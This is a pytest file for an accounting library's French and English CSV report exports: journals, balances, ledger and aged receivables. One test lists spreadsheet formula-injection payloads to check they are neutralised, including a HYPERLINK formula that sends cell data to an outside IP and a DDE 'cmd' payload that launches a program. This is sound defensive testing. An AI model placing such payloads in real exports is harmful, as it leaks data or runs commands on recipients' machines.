from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings

from provision.formats.books import reports
from provision.formats.books.balances import trial_balance
from provision.formats.books.tabular import table
from provision.money import Amount, euros
from tests.unit.formats.books.export_examples import (
    CAIRN,
    HOUR,
    JEANNE,
    JOURNAL,
    SHOP,
    TEXTS,
    assert_golden,
    entry,
    journals,
    line,
)

if TYPE_CHECKING:
    from provision.formats.books.booked import Booked
    from provision.formats.books.tabular import Cell
    from provision.languages import Language

DAY = date(2026, 6, 30)

both = pytest.mark.parametrize("language", ["fr", "en"])


def read(content: bytes, language: Language) -> list[list[str]]:
    """Read a table back with somebody else's parser, as a spreadsheet in this language would."""
    text = content.decode("utf-8-sig" if language == "fr" else "utf-8")
    return list(
        csv.reader(io.StringIO(text, newline=""), delimiter=";" if language == "fr" else ",")
    )


def cell(text: str) -> str:
    return read(table(["x"], [[text]], "en"), "en")[1][0]


@both
def test_the_tables_are_the_golden_ones(language: Language) -> None:
    assert_golden(f"journal.{language}.csv", reports.journal(JOURNAL, language))
    assert_golden(f"balance.{language}.csv", reports.balance(JOURNAL, language))
    assert_golden(f"ledger.{language}.csv", reports.general_ledger(JOURNAL, language))
    assert_golden(f"aged.{language}.csv", reports.aged_receivables(JOURNAL, DAY, language))


def test_french_spreadsheets_get_their_comma_and_english_ones_their_point() -> None:
    row: list[Cell] = [euros(-123456), 7, DAY, None, "a;b,c", Amount(HOUR, 5400), Amount(CAIRN, 5)]
    assert table(["é"], [row], "fr") == (
        b'\xef\xbb\xbf\xc3\xa9\r\n-1234,56;7;2026-06-30;;"a;b,c";5400;0,05\r\n'
    )
    assert table(["é"], [row], "en") == (
        b'\xc3\xa9\r\n-1234.56,7,2026-06-30,,"a;b,c",5400,0.05\r\n'
    )


@pytest.mark.parametrize(
    "formula",
    [
        *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\rx", "\tx"),
        *("＝1+1", "＋1", "－1", "＠x", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\x1f=1"),
        *('=HYPERLINK("http://198.51.100.1/"&A1)', "=cmd|' /C calc'!A0", "\0=1"),
    ],
)
def test_text_never_becomes_a_formula(formula: str) -> None:
    assert cell(formula) == f"'{formula}".replace("\0", "")


@pytest.mark.parametrize("text", ["Jeanne", "'quoted'", "1-2", "a=b", "jeanne@exemple.fr", ""])
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


def test_a_title_is_no_formula_either() -> None:
    assert read(table(["=1"], [], "en"), "en") == [["'=1"]]


@both
def test_negative_numbers_stay_numbers(language: Language) -> None:
    assert read(table(["x"], [[euros(-5), -5]], language), language)[1] == [
        "-0,05" if language == "fr" else "-0.05",
        "-5",
    ]


@given(TEXTS, TEXTS)
def test_any_text_is_read_back_from_its_own_cell(one: str, other: str) -> None:
    for language in ("fr", "en"):
        rows = read(table(["a", "b"], [[one, other], ["x", "y"]], language), language)
        assert [len(row) for row in rows] == [2, 2, 2]
        for wanted, found in zip((one, other), rows[1], strict=True):
            clean = wanted.replace("\0", "").encode(errors="replace").decode()
            assert found in {clean, f"'{clean}"}
            assert not found.startswith(tuple("=+-@\t\r\n＝＋－＠"))


@settings(deadline=None, max_examples=60)
@given(journals())
def test_balance_and_grand_livre_come_to_the_model(entries: tuple[Booked, ...]) -> None:
    model = trial_balance(entries)
    rows = read(reports.balance(entries, "en"), "en")[1:]
    assert [_units(row[5]) for row in rows] == [one.units for one in model]
    last = {(row[0], row[2]): row[11] for row in read(reports.general_ledger(entries, "en"), "en")}
    names = {(row[0], row[2]): row[5] for row in rows}
    assert {place: last[place] for place in names} == names


def _units(written: str) -> int:
    return int(written.replace(".", ""))


def test_the_running_balance_follows_the_days() -> None:
    later = entry(1, "VT", date(2026, 3, 1), (line("411", 1000), line("706", -1000)))
    sooner = entry(2, "VT", date(2026, 2, 1), (line("411", 500), line("706", -500)))
    rows = read(reports.general_ledger([later, sooner], "en"), "en")[1:3]
    assert [(row[3], row[11]) for row in rows] == [("2026-02-01", "5.00"), ("2026-03-01", "15.00")]


def aged(*entries: Booked) -> list[list[str]]:
    return read(reports.aged_receivables(entries, DAY, "en"), "en")[1:]


def claim(number: int, day: date, units: int, party: str = JEANNE) -> Booked:
    return entry(number, "VT", day, (line("411", units, party), line("706", -units)))


@pytest.mark.parametrize(
    ("day", "band"),
    [
        (date(2026, 6, 30), 3),
        (date(2026, 5, 31), 3),
        (date(2026, 5, 30), 4),
        (date(2026, 5, 1), 4),
        (date(2026, 4, 30), 5),
        (date(2026, 4, 1), 5),
        (date(2026, 3, 31), 6),
        (date(2020, 1, 1), 6),
    ],
)
def test_a_claim_is_in_the_band_of_its_age(day: date, band: int) -> None:
    ((*row, total),) = aged(claim(1, day, 1250))
    assert row[band] == total == "12.50"
    assert [row[other] for other in range(3, 7) if other != band] == ["0.00"] * 3


def test_what_is_matched_or_still_to_come_is_not_claimed() -> None:
    sale = claim(1, DAY, 500)
    matched = replace(sale.lines[0], letter="A", lettered_on=DAY)
    paid = replace(sale, lines=(matched, *sale.lines[1:]))
    assert aged(paid, claim(2, date(2026, 7, 1), 700)) == []


def test_a_payment_without_a_letter_lowers_the_claim() -> None:
    payment = entry(2, "BQ", DAY, (line("512", 200), line("411", -200, JEANNE)))
    rows = aged(claim(1, date(2026, 5, 1), 500), payment, claim(3, DAY, 100, SHOP))
    assert [(row[0], row[3], row[4], row[7]) for row in rows] == [
        (SHOP, "1.00", "0.00", "1.00"),
        (JEANNE, "-2.00", "5.00", "3.00"),
    ]
